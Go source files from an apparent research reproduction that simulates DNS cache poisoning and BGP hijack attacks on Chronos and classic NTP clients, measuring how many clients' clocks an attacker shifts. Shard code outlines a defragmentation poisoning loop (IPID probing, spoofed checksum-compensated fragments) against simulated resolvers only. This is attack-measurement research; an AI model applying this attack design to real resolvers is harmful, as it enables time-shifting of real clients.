// payload schema); it is generated from internal/eval by the directive
// below and gated against staleness in CI.
//
//go:generate go run ./cmd/genexperiments -out EXPERIMENTS.md
package chronosntp
