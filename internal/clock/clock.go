// Package clock models per-host system clocks for the simulated network.
//
// Every host owns a Clock. The simulator advances a single reference
// ("true") timeline; a host's local reading is
//
//	local(t) = t + offset + drift·(t − epoch)
//
// where offset is the accumulated error (changed by Step) and drift is a
// constant frequency error in parts-per-million (crystal skew). Slewing is
// modelled as an instantaneous change to offset combined with a bounded
// per-adjustment amortisation handled by the caller (the NTP discipline);
// keeping the clock itself piecewise-linear keeps the event-driven
// simulation exact and reproducible.
//
// The piecewise-linear model is what every layer above builds on: honest
// ntpserver hosts answer queries from a Clock with small random offset
// and ppm drift, the ntpclient/chronos disciplines Step their local
// Clock from measured offsets, and the experiments read Offset directly
// as the ground-truth clock error — no estimation is involved, because
// the simulator owns the reference timeline. That is also why attack
// outcomes ("shifted by > 100 ms") are exact measurements rather than
// inferences. The shiftsim engine advances the same model over years of
// virtual time; nothing in the clock accumulates floating-point error
// with the number of readings, only with the number of Steps.
package clock

import (
	"fmt"
	"math/rand"
	"time"
)

// Clock is a simulated system clock. The zero value is a perfect clock
// (zero offset, zero drift) anchored at the zero time.
type Clock struct {
	epoch    time.Time     // true time at which offset/drift were last anchored
	offset   time.Duration // local − true at epoch
	driftPPM float64       // frequency error, parts per million
	steps    int           // number of discontinuous adjustments applied
}

// New returns a clock with the given initial offset and drift, anchored at
// the true-time instant epoch.
func New(epoch time.Time, offset time.Duration, driftPPM float64) *Clock {
	return &Clock{epoch: epoch, offset: offset, driftPPM: driftPPM}
}

// Now converts a true-time instant into this clock's local reading.
func (c *Clock) Now(trueNow time.Time) time.Time {
	return trueNow.Add(c.Offset(trueNow))
}

// Offset returns local − true at the given true-time instant, including
// accumulated drift since the last adjustment.
func (c *Clock) Offset(trueNow time.Time) time.Duration {
	elapsed := trueNow.Sub(c.epoch)
	driftErr := time.Duration(float64(elapsed) * c.driftPPM / 1e6)
	return c.offset + driftErr
}

// Step applies a discontinuous adjustment of delta to the local clock at
// the given true-time instant (positive delta moves the local clock
// forward). Drift accumulated so far is folded into the new anchor.
func (c *Clock) Step(trueNow time.Time, delta time.Duration) {
	c.offset = c.Offset(trueNow) + delta
	c.epoch = trueNow
	c.steps++
}

// SetTo sets the local clock to read exactly local at the true-time instant
// trueNow. This is how a synchronisation algorithm applies its computed
// estimate.
func (c *Clock) SetTo(trueNow time.Time, local time.Time) {
	c.offset = local.Sub(trueNow)
	c.epoch = trueNow
	c.steps++
}

// SetDrift changes the clock's frequency error at the given instant,
// preserving the current local reading.
func (c *Clock) SetDrift(trueNow time.Time, driftPPM float64) {
	c.offset = c.Offset(trueNow)
	c.epoch = trueNow
	c.driftPPM = driftPPM
}

// DriftPPM returns the configured frequency error in parts per million.
func (c *Clock) DriftPPM() float64 { return c.driftPPM }

// Steps returns the number of discontinuous adjustments applied so far,
// which synchronisation tests use to verify step-vs-slew behaviour.
func (c *Clock) Steps() int { return c.steps }

// String implements fmt.Stringer for diagnostics.
func (c *Clock) String() string {
	return fmt.Sprintf("clock{offset=%v drift=%.3fppm steps=%d}", c.offset, c.driftPPM, c.steps)
}

// Wander models benign oscillator instability as a bounded random walk on
// the drift rate: crystal frequency error is not constant in the wild —
// temperature and aging wander it by fractions of a ppm between
// synchronisation rounds. The long-horizon shift engine perturbs a
// client's drift with one Next step per sync round so that a multi-year
// run sees realistic frequency wander instead of a frozen skew.
//
// The zero value disables wander (Next returns its input unchanged).
type Wander struct {
	// StepPPM is the scale of one perturbation: each step draws uniformly
	// from ±StepPPM and adds it to the current drift.
	StepPPM float64
	// MaxPPM clamps the walked drift to ±MaxPPM (0 = unbounded). Real
	// oscillators stay within their datasheet tolerance; the clamp keeps
	// decade-long walks physical.
	MaxPPM float64
}

// Enabled reports whether the wander perturbs at all.
func (w Wander) Enabled() bool { return w.StepPPM != 0 }

// Next walks the drift one step using rng and returns the new drift in
// ppm, clamped to ±MaxPPM when a bound is set.
func (w Wander) Next(rng *rand.Rand, driftPPM float64) float64 {
	if !w.Enabled() {
		return driftPPM
	}
	d := driftPPM + (rng.Float64()*2-1)*w.StepPPM
	if w.MaxPPM > 0 {
		if d > w.MaxPPM {
			d = w.MaxPPM
		}
		if d < -w.MaxPPM {
			d = -w.MaxPPM
		}
	}
	return d
}
