package clock

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
	"time"
)

var epoch = time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)

func TestZeroValueIsPerfect(t *testing.T) {
	var c Clock
	now := epoch.Add(3 * time.Hour)
	if got := c.Now(now); !got.Equal(now) {
		t.Errorf("zero clock Now = %v, want %v", got, now)
	}
	if c.Offset(now) != 0 {
		t.Errorf("zero clock offset = %v, want 0", c.Offset(now))
	}
}

func TestOffsetConstant(t *testing.T) {
	c := New(epoch, 250*time.Millisecond, 0)
	for _, d := range []time.Duration{0, time.Second, time.Hour, 100 * time.Hour} {
		if got := c.Offset(epoch.Add(d)); got != 250*time.Millisecond {
			t.Errorf("offset at +%v = %v, want 250ms", d, got)
		}
	}
}

func TestDriftAccumulates(t *testing.T) {
	// 100 ppm drift = 100 µs per second.
	c := New(epoch, 0, 100)
	got := c.Offset(epoch.Add(10 * time.Second))
	want := 1 * time.Millisecond
	if diff := got - want; diff < -time.Microsecond || diff > time.Microsecond {
		t.Errorf("drift offset = %v, want ~%v", got, want)
	}
	// Negative drift runs the clock slow.
	c2 := New(epoch, 0, -50)
	if got := c2.Offset(epoch.Add(time.Hour)); got >= 0 {
		t.Errorf("negative drift should give negative offset, got %v", got)
	}
}

func TestStep(t *testing.T) {
	c := New(epoch, 10*time.Millisecond, 0)
	now := epoch.Add(time.Minute)
	c.Step(now, -10*time.Millisecond)
	if got := c.Offset(now); got != 0 {
		t.Errorf("offset after corrective step = %v, want 0", got)
	}
	if c.Steps() != 1 {
		t.Errorf("steps = %d, want 1", c.Steps())
	}
}

func TestStepFoldsDrift(t *testing.T) {
	c := New(epoch, 0, 1000) // 1 ms/s
	now := epoch.Add(10 * time.Second)
	preStep := c.Offset(now) // ~10ms
	c.Step(now, 5*time.Millisecond)
	got := c.Offset(now)
	want := preStep + 5*time.Millisecond
	if diff := got - want; diff < -time.Microsecond || diff > time.Microsecond {
		t.Errorf("offset after step = %v, want %v", got, want)
	}
}

func TestSetTo(t *testing.T) {
	c := New(epoch, 3*time.Second, 25)
	now := epoch.Add(2 * time.Hour)
	target := now.Add(-42 * time.Millisecond)
	c.SetTo(now, target)
	if got := c.Now(now); !got.Equal(target) {
		t.Errorf("Now after SetTo = %v, want %v", got, target)
	}
}

func TestSetDriftPreservesReading(t *testing.T) {
	c := New(epoch, time.Millisecond, 200)
	now := epoch.Add(30 * time.Minute)
	before := c.Now(now)
	c.SetDrift(now, -200)
	after := c.Now(now)
	if d := after.Sub(before); d < -time.Microsecond || d > time.Microsecond {
		t.Errorf("SetDrift moved reading by %v", d)
	}
	if c.DriftPPM() != -200 {
		t.Errorf("DriftPPM = %v, want -200", c.DriftPPM())
	}
	// Future readings now diverge in the other direction.
	if c.Offset(now.Add(time.Hour)) >= c.Offset(now) {
		t.Error("negative drift should reduce offset over time")
	}
}

func TestString(t *testing.T) {
	c := New(epoch, time.Second, 12.5)
	if s := c.String(); s == "" {
		t.Error("String should be non-empty")
	}
}

// Property: clock readings are monotone in true time when drift > -1e6 ppm
// (i.e. the local clock never runs backwards for any physical drift value).
func TestMonotonicityProperty(t *testing.T) {
	f := func(offMs int32, driftPPM int16, aSec, bSec uint16) bool {
		c := New(epoch, time.Duration(offMs)*time.Millisecond, float64(driftPPM))
		ta := epoch.Add(time.Duration(aSec) * time.Second)
		tb := epoch.Add(time.Duration(bSec) * time.Second)
		if tb.Before(ta) {
			ta, tb = tb, ta
		}
		return !c.Now(tb).Before(c.Now(ta))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// Property: Step(now, d) changes the reading at `now` by exactly d.
func TestStepExactProperty(t *testing.T) {
	f := func(offMs int32, driftPPM int16, atSec uint16, deltaMs int32) bool {
		c := New(epoch, time.Duration(offMs)*time.Millisecond, float64(driftPPM))
		now := epoch.Add(time.Duration(atSec) * time.Second)
		before := c.Now(now)
		delta := time.Duration(deltaMs) * time.Millisecond
		c.Step(now, delta)
		diff := c.Now(now).Sub(before) - delta
		return math.Abs(float64(diff)) <= float64(time.Microsecond)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestWanderZeroValueDisabled(t *testing.T) {
	var w Wander
	if w.Enabled() {
		t.Fatal("zero wander reports enabled")
	}
	rng := rand.New(rand.NewSource(1))
	if got := w.Next(rng, 12.5); got != 12.5 {
		t.Fatalf("disabled wander changed drift: %v", got)
	}
}

func TestWanderBoundedWalk(t *testing.T) {
	w := Wander{StepPPM: 0.5, MaxPPM: 20}
	rng := rand.New(rand.NewSource(42))
	drift := 0.0
	changed := false
	for i := 0; i < 100_000; i++ {
		next := w.Next(rng, drift)
		if next != drift {
			changed = true
		}
		if step := next - drift; step > w.StepPPM || step < -w.StepPPM {
			// The clamp may shorten a step, never lengthen it.
			if next != w.MaxPPM && next != -w.MaxPPM {
				t.Fatalf("step %v exceeds ±%v", step, w.StepPPM)
			}
		}
		drift = next
		if drift > w.MaxPPM || drift < -w.MaxPPM {
			t.Fatalf("drift %v escaped ±%v at step %d", drift, w.MaxPPM, i)
		}
	}
	if !changed {
		t.Fatal("wander never moved the drift")
	}
}

func TestWanderDeterministic(t *testing.T) {
	w := Wander{StepPPM: 0.25, MaxPPM: 5}
	walk := func(seed int64) []float64 {
		rng := rand.New(rand.NewSource(seed))
		out := make([]float64, 50)
		d := 0.0
		for i := range out {
			d = w.Next(rng, d)
			out[i] = d
		}
		return out
	}
	a, b := walk(7), walk(7)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("wander not reproducible from seed at step %d", i)
		}
	}
}
