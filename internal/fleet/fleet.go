// Package fleet is the population-scale engine of the reproduction: N
// shared caching resolvers, each serving a Zipf-distributed slice of a
// client population (Chronos clients running their 24-hour pool
// generation plus classic NTP clients bootstrapping once), with the
// attacker poisoning a configurable subset of the resolvers through the
// existing attack mechanisms.
//
// Where core.Scenario measures one client behind one resolver, fleet
// measures the paper's *amplification* claim: poisoning a single upstream
// resolver cache subverts every client behind it, so a handful of
// poisoned resolvers shifts time for a large fraction of the internet.
//
// The engine is sharded by resolver: every resolver and its client
// population runs on its own seeded simnet.Network, shards fan out across
// internal/runner's worker pool, and the reduction folds shard results in
// shard-index order — so a fleet run is bit-identical at any parallelism
// level. Within a shard, clients reach the resolver through the direct
// in-process handle (dnsresolver.Lookuper), keeping the per-client cost
// of a cached lookup O(1) while the resolver's upstream traffic — the
// attack surface — stays on the simulated wire.
package fleet

import (
	"context"
	"errors"
	"fmt"
	"math"
	"os"
	"runtime/debug"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/core"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/runner"
)

// Distribution selects how the client population fans out across the
// resolvers.
type Distribution int

const (
	// Zipf assigns clients to resolvers with weights 1/rank^s — a few
	// large shared resolvers (the 8.8.8.8s of the simulated internet) and
	// a long tail of small ones. This is the population shape that makes
	// cache poisoning amplify: the attacker poisons the biggest caches
	// first.
	Zipf Distribution = iota + 1
	// Uniform spreads clients evenly — the amplification baseline.
	Uniform
)

// String implements fmt.Stringer.
func (d Distribution) String() string {
	switch d {
	case Zipf:
		return "zipf"
	case Uniform:
		return "uniform"
	default:
		return "Distribution(?)"
	}
}

// Config parameterises a fleet run.
type Config struct {
	Seed int64

	Resolvers int // shared caching resolvers; default 10
	Clients   int // total client population; default 1000

	Distribution Distribution // fan-out shape; default Zipf
	ZipfExponent float64      // Zipf s; default 1.2
	// ClassicShare is the fraction of classic NTP clients; default 0.25.
	// Set it negative for an all-Chronos fleet (0 means "use the
	// default", like every other field here).
	ClassicShare float64

	// Poisoned is the number of resolvers the attacker goes after,
	// largest fan-out first (0 = honest baseline).
	Poisoned  int
	Mechanism core.Mechanism // default Defrag when Poisoned > 0
	// PoisonQuery is the pool-generation hour (1-based) at which the
	// attack begins, as in core.Config; default 6.
	PoisonQuery int

	PoolQueries       int           // default 24
	PoolQueryInterval time.Duration // default 1h
	BenignServers     int           // default 500
	MaliciousServers  int           // default 89

	ResolverPolicy dnsresolver.AcceptancePolicy // §V resolver mitigation
	ClientPolicy   chronos.PoolPolicy           // §V client mitigation

	// ShiftTarget/AttackHorizon parameterise the population shift metric:
	// a Chronos client counts as shifted when the long-horizon shift
	// engine (internal/shiftsim), run over the client's measured pool
	// composition, moves the clock by ShiftTarget within AttackHorizon in
	// a majority of ShiftTrials sampled runs. Defaults: 100ms / 24h / 3.
	ShiftTarget   time.Duration
	AttackHorizon time.Duration
	ShiftTrials   int

	// WireStubs switches clients from the direct resolver handle to real
	// per-lookup UDP stub exchanges (full fidelity, ~10× the events).
	WireStubs bool
}

func (c Config) withDefaults() Config {
	if c.Seed == 0 {
		c.Seed = 1
	}
	if c.Resolvers <= 0 {
		c.Resolvers = 10
	}
	if c.Clients <= 0 {
		c.Clients = 1000
	}
	if c.Distribution == 0 {
		c.Distribution = Zipf
	}
	if c.ZipfExponent == 0 {
		c.ZipfExponent = 1.2
	}
	if c.ClassicShare == 0 {
		c.ClassicShare = 0.25
	}
	if c.ClassicShare < 0 {
		c.ClassicShare = 0
	}
	if c.ClassicShare > 1 {
		c.ClassicShare = 1
	}
	if c.Poisoned < 0 {
		c.Poisoned = 0
	}
	if c.Poisoned > c.Resolvers {
		c.Poisoned = c.Resolvers
	}
	if c.Mechanism == 0 {
		if c.Poisoned > 0 {
			c.Mechanism = core.Defrag
		} else {
			c.Mechanism = core.NoAttack
		}
	}
	if c.PoisonQuery == 0 {
		c.PoisonQuery = 6
	}
	if c.PoolQueries == 0 {
		c.PoolQueries = 24
	}
	if c.PoolQueryInterval == 0 {
		c.PoolQueryInterval = time.Hour
	}
	if c.BenignServers == 0 {
		c.BenignServers = 500
	}
	if c.MaliciousServers == 0 {
		c.MaliciousServers = 89
	}
	if c.ShiftTarget == 0 {
		c.ShiftTarget = 100 * time.Millisecond
	}
	if c.AttackHorizon == 0 {
		c.AttackHorizon = 24 * time.Hour
	}
	return c
}

// ErrFleet wraps fleet construction failures.
var ErrFleet = errors.New("fleet: setup")

// ErrNotBuilt is returned by Simulate when Build has not run (or the fleet
// was already consumed by a previous Simulate).
var ErrNotBuilt = errors.New("fleet: Simulate requires a successful Build first")

// Fleet separates a fleet run into its two phases so callers (benchmarks
// above all) can time them independently: Build constructs every shard's
// topology and population, Simulate advances the event loops to the
// horizon and measures. Both phases fan shards across internal/runner's
// worker pool, and shard i's work is identical whether the phases are
// interleaved (the old Run behaviour) or batched — each shard owns its
// network and RNG — so a fleet run stays bit-identical at any parallelism
// and through either entry point.
type Fleet struct {
	cfg    Config
	plans  []shardPlan
	shards []*shardState
}

// New plans a fleet from cfg (defaults applied) without constructing
// anything.
func New(cfg Config) *Fleet {
	cfg = cfg.withDefaults()
	return &Fleet{cfg: cfg, plans: plan(cfg)}
}

// Config returns the resolved configuration.
func (f *Fleet) Config() Config { return f.cfg }

// Build constructs every shard — seeded network, backbone, resolver,
// client population, attacker schedule — across parallel workers
// (≤0 = GOMAXPROCS). No virtual time passes.
func (f *Fleet) Build(ctx context.Context, parallel int) error {
	shards := make([]*shardState, len(f.plans))
	err := runner.ForEach(ctx, len(f.plans), parallel, func(i int) error {
		s, err := buildShard(f.cfg, f.plans[i])
		if err != nil {
			return fmt.Errorf("fleet: shard %d: %w", i, err)
		}
		shards[i] = s
		return nil
	})
	if err != nil {
		return err
	}
	f.shards = shards
	return nil
}

// batchGC relaxes the garbage collector for the simulate phase and
// returns a restore function. The phase is a bounded batch whose
// allocation behaviour is pinned by alloc-ceiling tests: the dominant
// survivors are the pools and clients themselves, so collecting at the
// default 100% heap-growth target mostly re-scans live population state.
// Doubling the target halves the number of full scans for a bounded peak
// memory increase. An explicit GOGC in the environment wins: the
// operator has already chosen a policy, and we keep our hands off.
func batchGC() func() {
	if os.Getenv("GOGC") != "" {
		return func() {}
	}
	prev := debug.SetGCPercent(200)
	return func() { debug.SetGCPercent(prev) }
}

// Simulate runs every built shard to its horizon and reduces the
// measurements in shard-index order. The built state is consumed: call
// Build again before another Simulate.
func (f *Fleet) Simulate(ctx context.Context, parallel int) (*Result, error) {
	if f.shards == nil {
		return nil, ErrNotBuilt
	}
	defer batchGC()()
	shards := f.shards
	f.shards = nil
	results := make([]ShardResult, len(shards))
	model := newShiftModel(f.cfg)
	err := runner.ForEach(ctx, len(shards), parallel, func(i int) error {
		sr, err := shards[i].simulate(f.cfg, model)
		if err != nil {
			return fmt.Errorf("fleet: shard %d: %w", i, err)
		}
		results[i] = *sr
		return nil
	})
	if err != nil {
		return nil, err
	}
	return reduce(f.cfg, results), nil
}

// Run executes the fleet end to end: one seeded simulation per resolver
// shard, fanned across parallel workers (≤0 = GOMAXPROCS), reduced in
// shard-index order. Same Config ⇒ bit-identical Result at any
// parallelism. Each shard is built and simulated inside one worker task,
// so peak memory holds only `parallel` live networks — use the phased
// Fleet API when setup and steady state must be separated instead.
func Run(ctx context.Context, cfg Config, parallel int) (*Result, error) {
	defer batchGC()()
	cfg = cfg.withDefaults()
	plans := plan(cfg)
	shards := make([]ShardResult, len(plans))
	model := newShiftModel(cfg)
	err := runner.ForEach(ctx, len(plans), parallel, func(i int) error {
		s, err := buildShard(cfg, plans[i])
		if err != nil {
			return fmt.Errorf("fleet: shard %d: %w", i, err)
		}
		sr, err := s.simulate(cfg, model)
		if err != nil {
			return fmt.Errorf("fleet: shard %d: %w", i, err)
		}
		shards[i] = *sr
		return nil
	})
	if err != nil {
		return nil, err
	}
	return reduce(cfg, shards), nil
}

// Apportion splits clients across resolvers according to the
// distribution, using the largest-remainder method so the counts sum to
// clients exactly and the assignment is deterministic. Zipf weights are
// 1/rank^s, so shard 0 is always the largest.
func Apportion(clients, resolvers int, dist Distribution, s float64) []int {
	if resolvers <= 0 {
		return nil
	}
	weights := make([]float64, resolvers)
	switch dist {
	case Uniform:
		for i := range weights {
			weights[i] = 1
		}
	default: // Zipf
		for i := range weights {
			weights[i] = 1 / math.Pow(float64(i+1), s)
		}
	}
	var sum float64
	for _, w := range weights {
		sum += w
	}
	counts := make([]int, resolvers)
	type frac struct {
		idx int
		rem float64
	}
	fracs := make([]frac, resolvers)
	assigned := 0
	for i, w := range weights {
		share := float64(clients) * w / sum
		counts[i] = int(share)
		assigned += counts[i]
		fracs[i] = frac{idx: i, rem: share - float64(counts[i])}
	}
	// Hand the leftover clients to the largest fractional remainders,
	// breaking ties toward lower shard indices (stable insertion sort —
	// resolver counts are small).
	for i := 1; i < len(fracs); i++ {
		for j := i; j > 0 && fracs[j].rem > fracs[j-1].rem; j-- {
			fracs[j], fracs[j-1] = fracs[j-1], fracs[j]
		}
	}
	for k := 0; k < clients-assigned; k++ {
		counts[fracs[k%len(fracs)].idx]++
	}
	return counts
}

// shardPlan is the deterministic work order for one resolver shard.
type shardPlan struct {
	index    int
	seed     int64
	clients  int
	chronos  int
	classic  int
	poisoned bool
}

// plan expands a resolved Config into its shard plans.
func plan(cfg Config) []shardPlan {
	counts := Apportion(cfg.Clients, cfg.Resolvers, cfg.Distribution, cfg.ZipfExponent)
	plans := make([]shardPlan, len(counts))
	for i, n := range counts {
		classic := int(float64(n)*cfg.ClassicShare + 0.5)
		plans[i] = shardPlan{
			index: i,
			// Decorrelate shard RNG streams: consecutive seeds would
			// reuse simnet's rand streams across shards of adjacent
			// fleet seeds.
			seed:     cfg.Seed*1_000_003 + int64(i)*7919 + 1,
			clients:  n,
			chronos:  n - classic,
			classic:  classic,
			poisoned: i < cfg.Poisoned,
		}
	}
	return plans
}

// ShardResult is one resolver shard's measurement.
type ShardResult struct {
	Shard    int
	Poisoned bool // targeted by the attacker
	Planted  bool // attack chain verified successful

	Clients int
	Chronos int
	Classic int

	// ChronosSubverted counts Chronos clients whose generated pool ended
	// ≥ 1/3 malicious — the boundary past which the NDSS'18 security
	// proof no longer applies.
	ChronosSubverted int
	// ChronosShifted counts Chronos clients the attacker can move by
	// ShiftTarget within AttackHorizon (sampled empirically: shiftsim
	// greedy runs over the client's actual pool composition).
	ChronosShifted int
	// ClassicSubverted counts classic clients that bootstrapped a
	// majority-malicious server set; such a client follows the attacker
	// immediately, so it is also counted as shifted.
	ClassicSubverted int

	// SumAttackerFraction accumulates the per-Chronos-client attacker
	// pool fraction (divide by Chronos for the shard mean).
	SumAttackerFraction float64

	ResolverStats dnsresolver.Stats
}

// Result is a fleet run's aggregate.
type Result struct {
	Config Config // resolved configuration
	Shards []ShardResult

	TotalClients   int
	ChronosClients int
	ClassicClients int

	PoisonedResolvers int // targeted
	PlantedResolvers  int // verified poisoned

	SubvertedClients  int     // Chronos ≥ 1/3 pools + classic majority bootstraps
	ShiftedClients    int     // movable beyond ShiftTarget within AttackHorizon
	SubvertedFraction float64 // SubvertedClients / TotalClients
	ShiftedFraction   float64
	// Amplification is the paper's population lever: clients subverted
	// per poisoned resolver (0 when no resolver is attacked).
	Amplification float64

	MeanAttackerFraction float64 // across all Chronos clients
}

// reduce folds shard results in shard-index order.
func reduce(cfg Config, shards []ShardResult) *Result {
	r := &Result{Config: cfg, Shards: shards}
	var fracSum float64
	for _, s := range shards {
		r.TotalClients += s.Clients
		r.ChronosClients += s.Chronos
		r.ClassicClients += s.Classic
		if s.Poisoned {
			r.PoisonedResolvers++
		}
		if s.Planted {
			r.PlantedResolvers++
		}
		r.SubvertedClients += s.ChronosSubverted + s.ClassicSubverted
		r.ShiftedClients += s.ChronosShifted + s.ClassicSubverted
		fracSum += s.SumAttackerFraction
	}
	if r.TotalClients > 0 {
		r.SubvertedFraction = float64(r.SubvertedClients) / float64(r.TotalClients)
		r.ShiftedFraction = float64(r.ShiftedClients) / float64(r.TotalClients)
	}
	if r.ChronosClients > 0 {
		r.MeanAttackerFraction = fracSum / float64(r.ChronosClients)
	}
	if r.PoisonedResolvers > 0 {
		r.Amplification = float64(r.SubvertedClients) / float64(r.PoisonedResolvers)
	}
	return r
}
