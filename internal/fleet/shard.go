package fleet

import (
	"math/rand"
	"sync"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/clock"
	"chronosntp/internal/core"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/ntpclient"
	"chronosntp/internal/shiftsim"
	"chronosntp/internal/simnet"
)

// Per-shard topology addresses. Every shard is its own network, so the
// fixed addresses never collide.
var (
	shardResolverIP = simnet.IPv4(10, 0, 0, 53)
	shardClientIP   = simnet.IPv4(10, 0, 1, 1)
)

// rearmInterval is the cadence of the Defrag attacker's probe→plant cycle
// while armed: shorter than the 30 s reassembly lifetime, so a spoofed
// tail is always pending when the resolver's hourly delegation re-walk
// finally happens.
const rearmInterval = 25 * time.Second

// shardState is one fully constructed resolver shard, ready to simulate:
// the seeded network with every client start, attacker action, and horizon
// already scheduled, plus the handles the measurement pass reads.
type shardState struct {
	plan           shardPlan
	net            *simnet.Network
	bb             *core.Backbone
	resolver       *dnsresolver.Resolver
	chronosClients []*chronos.Client
	classicClients []*ntpclient.Client
	att            *core.Attacker
	end            time.Time
}

// shiftModel memoises the population shift metric: whether an attacker
// holding `malicious` of a `poolSize` Chronos pool moves the client by
// ShiftTarget within AttackHorizon. The answer is *sampled empirically*
// with the long-horizon shift engine — ShiftTrials greedy runs of the
// real round loop per distinct composition, majority vote — instead of
// assumed from the closed form.
//
// One model is shared by every shard of a fleet run: pool compositions
// repeat heavily both within and across shards, and each composition's
// verdict is seeded from the fleet seed alone — never the shard seed —
// so the verdict is a pure function of (composition, strategy
// parameters, fleet seed). That makes the cache safe to share across
// shard goroutines (first computer wins, everyone else reads the same
// answer) and keeps shifted fractions bit-identical at any parallelism.
type shiftModel struct {
	cfg    Config
	seed   int64
	trials int

	mu   sync.Mutex
	memo map[[2]int]bool
}

func newShiftModel(cfg Config) *shiftModel {
	trials := cfg.ShiftTrials
	if trials <= 0 {
		trials = 3
	}
	return &shiftModel{cfg: cfg, seed: cfg.Seed, trials: trials, memo: make(map[[2]int]bool)}
}

func (m *shiftModel) shifted(poolSize, malicious int) bool {
	if poolSize == 0 || malicious == 0 {
		return false
	}
	key := [2]int{poolSize, malicious}
	m.mu.Lock()
	v, ok := m.memo[key]
	m.mu.Unlock()
	if ok {
		return v
	}
	// Sample outside the lock: long-horizon engine runs are the expensive
	// part, and concurrent shards asking for the same composition would
	// otherwise serialize on it. A racing duplicate computes the identical
	// verdict (the seed depends only on the composition), so last-write
	// is harmless.
	rs, err := shiftsim.Sample(shiftsim.Config{
		PoolSize:  poolSize,
		Malicious: malicious,
		Target:    m.cfg.ShiftTarget,
		Horizon:   m.cfg.AttackHorizon,
		RunLength: -1,
	}, m.compositionSeed(poolSize, malicious), m.trials)
	v = false
	if err == nil {
		hits := 0
		for _, r := range rs {
			if r.Shifted {
				hits++
			}
		}
		v = 2*hits > m.trials
	}
	m.mu.Lock()
	m.memo[key] = v
	m.mu.Unlock()
	return v
}

// compositionSeed derives a deterministic seed block per composition so
// the verdict does not depend on which client — or which shard — asks
// first.
func (m *shiftModel) compositionSeed(poolSize, malicious int) int64 {
	return m.seed*1_000_003 + int64(poolSize)*104_729 + int64(malicious)*7919 + 17
}

// buildShard constructs one resolver shard: topology, client population,
// and attacker, with every action scheduled on the shard's own seeded
// network. No virtual time passes here — the returned state is the t=0
// snapshot that simulate advances.
func buildShard(cfg Config, p shardPlan) (*shardState, error) {
	net := simnet.New(simnet.Config{Seed: p.seed})
	bb, err := core.BuildBackbone(net, core.BackboneConfig{
		BenignServers:    cfg.BenignServers,
		MaliciousServers: cfg.MaliciousServers,
	})
	if err != nil {
		return nil, err
	}
	resolver, err := bb.NewResolver(shardResolverIP, cfg.ResolverPolicy)
	if err != nil {
		return nil, err
	}
	clientHost, err := net.AddHost(shardClientIP)
	if err != nil {
		return nil, err
	}

	// The shared resolver handle: direct in-process by default, real UDP
	// stub exchanges in fidelity mode.
	var handle dnsresolver.Lookuper = resolver
	if cfg.WireStubs {
		handle = dnsresolver.NewStub(clientHost, resolver.Addr(), 0)
	}

	// Stagger draws come from a dedicated RNG so client scheduling does
	// not perturb the network's seeded jitter stream.
	rng := rand.New(rand.NewSource(p.seed ^ 0x6c657466))

	epoch := net.Now().Add(time.Minute)
	buildSpan := time.Duration(cfg.PoolQueries-1)*cfg.PoolQueryInterval + 2*time.Minute
	end := epoch.Add(cfg.PoolQueryInterval + buildSpan) // max stagger + build + settle

	clientCfg := chronos.Config{
		PoolName:          core.PoolName,
		PoolQueries:       cfg.PoolQueries,
		PoolQueryInterval: cfg.PoolQueryInterval,
		Policy:            cfg.ClientPolicy,
	}

	// Chronos clients: pool generation staggered across one query
	// interval; each stops after generation — the population shift metric
	// is then sampled per distinct generated pool composition by the
	// shiftsim engine, so no per-client NTP sampling runs in the shard
	// itself.
	chronosClients := make([]*chronos.Client, p.chronos)
	for i := range chronosClients {
		c := chronos.New(clientHost, &clock.Clock{}, handle, clientCfg)
		chronosClients[i] = c
		start := epoch.Add(time.Duration(rng.Int63n(int64(cfg.PoolQueryInterval))))
		cc := c
		net.After(start.Sub(net.Now()), func() {
			cc.BuildPool(func(error) { cc.Stop() })
		})
	}

	// Classic clients: one DNS bootstrap each, at a uniform random moment
	// of the horizon — their single resolution samples whatever the
	// shared cache holds at that instant.
	classicClients := make([]*ntpclient.Client, p.classic)
	for i := range classicClients {
		cl := ntpclient.New(clientHost, &clock.Clock{}, handle, ntpclient.Config{
			PoolName: core.PoolName,
		})
		classicClients[i] = cl
		start := epoch.Add(time.Duration(rng.Int63n(int64(buildSpan + cfg.PoolQueryInterval))))
		ccl := cl
		net.After(start.Sub(net.Now()), func() {
			ccl.Start(func(error) { ccl.Stop() })
		})
	}

	// Attacker.
	var att *core.Attacker
	if p.poisoned {
		att, err = core.InstallAttacker(net, core.AttackerConfig{
			Mechanism:      cfg.Mechanism,
			Servers:        bb.EvilIPs,
			VictimResolver: shardResolverIP,
		})
		if err != nil {
			return nil, err
		}
		attackAt := epoch.Add(time.Duration(cfg.PoisonQuery-1) * cfg.PoolQueryInterval)
		lead := attackAt.Sub(net.Now())
		if lead < 0 {
			lead = 0
		}
		switch cfg.Mechanism {
		case core.Defrag:
			// Stay armed: re-probe the root's IPID and re-plant the
			// checksum-compensated spoofed tails every rearmInterval, and
			// trigger pool lookups through the open resolver, until the
			// next hourly delegation re-walk reassembles the poisoned
			// referral (verified through the cache) or the horizon ends.
			trigger := dnsresolver.NewStub(att.Host, resolver.Addr(), 2*time.Second)
			var arm func()
			arm = func() {
				if core.GluePoisoned(resolver) || !net.Now().Before(end) {
					return
				}
				att.Poisoner.Execute(core.PoolName, dnswire.TypeA, func(error) {
					trigger.Lookup(core.PoolName, dnswire.TypeA, func(dnsresolver.Result) {})
				})
				net.After(rearmInterval, arm)
			}
			net.After(lead, arm)
		case core.BGPHijack:
			net.After(lead, att.Hijacker.Announce)
			net.After(lead+40*time.Second+cfg.PoolQueryInterval/2, att.Hijacker.Withdraw)
		case core.BGPHijackPersistent:
			net.After(lead, att.Hijacker.Announce)
		}
	}

	return &shardState{
		plan:           p,
		net:            net,
		bb:             bb,
		resolver:       resolver,
		chronosClients: chronosClients,
		classicClients: classicClients,
		att:            att,
		end:            end,
	}, nil
}

// simulate runs the shard's event loop to the horizon and measures the
// population. This is the steady-state region the fleet benchmark times;
// buildShard is the setup it excludes.
